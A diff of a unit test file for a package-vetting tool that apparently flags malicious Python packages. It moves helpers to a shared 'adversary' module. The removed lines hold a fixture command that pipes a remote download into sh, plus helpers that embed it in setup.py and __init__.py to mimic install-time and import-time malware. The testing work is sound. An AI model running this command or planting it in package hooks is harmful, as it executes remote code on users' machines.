@@ -25,36 +25,15 @@ from __future__ import annotations
 import pytest
 
 from airlock.domain.requests import Outcome
-from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
-
-CURL = "curl -s http://203.0.113.5/x | sh"
-PAYLOAD = "import os\nos.system(" + repr(CURL) + ")\n"
-X = "sys.argv[0][:0]"  # an unknown that adds nothing
-HEAD = f"import os, subprocess, sys\nP = {PAYLOAD!r}\nCURL = {CURL!r}\n"
-
-
-def on_import(body: str) -> dict[str, str]:
-    """``__init__.py`` holding the payload and the command, then ``body``."""
-    return init(HEAD + body)
-
-
-def on_install(body: str) -> dict[str, str]:
-    """``setup.py`` running ``body`` at module level."""
-    return {
-        "setup.py": HEAD + "from setuptools import setup\n" + body + "setup(name='evpkg')\n",
-        "evpkg/__init__.py": "",
-    }
-
-
-def built(body: str) -> dict[str, str]:
-    """A setup.py helper's near-miss: ``body`` at module level of ``setup.py``."""
-    return {
-        "setup.py": "import os, subprocess, sys\nfrom setuptools import setup\n"
-        + body
-        + "setup(name='evpkg')\n",
-        "evpkg/__init__.py": "",
-    }
-
+from tests.unit.imports.packages.adversary import (
+    X,
+    built,
+    init,
+    on_import,
+    on_install,
+    verdict_cases,
+    vet_package,
+)
 
 TEMP_PY = (
     "import tempfile\nf = tempfile.NamedTemporaryFile('w', suffix='.py', delete=False)\n"
